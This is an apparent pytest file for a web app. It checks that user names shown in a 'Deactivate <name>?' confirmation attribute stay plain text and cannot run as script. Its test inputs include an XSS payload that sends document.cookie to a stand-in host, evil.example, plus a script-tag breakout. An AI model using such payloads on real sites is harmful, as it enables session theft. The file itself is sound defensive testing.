"""The Users list asks "Deactivate <name>?" before sending. The question sits in a data-confirm
attribute that static/js/app.js reads as plain text (no inline script: the Content-Security-Policy
forbids it), so a name with quotes or markup is shown as typed and never runs as code."""
from __future__ import annotations

from html.parser import HTMLParser

import pytest

from extensions import db as _db

NASTY = ["O'Brien", "x'); fetch('//evil.example/?c='+document.cookie); ('",
         '</script><script>alert(1)</script>', 'Amy "Quotes" & \\ backslash']


class _Attributes(HTMLParser):
    def __init__(self):
        super().__init__()
        self.confirms: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name == "data-confirm":
                self.confirms.append(value)  # as the browser hands it to JavaScript
            if name.startswith("on"):
                self.handlers.append(name)


@pytest.mark.parametrize("name", NASTY)
def test_deactivate_confirm_holds_the_name_as_plain_text(client, login, users, name):
    users.admin.name = name
    _db.session.commit()
    login("owner")
    parser = _Attributes()
    parser.feed(client.get("/users").get_data(as_text=True))
    assert f"Deactivate {name}? They will no longer be able to sign in." in parser.confirms
    assert parser.handlers == []
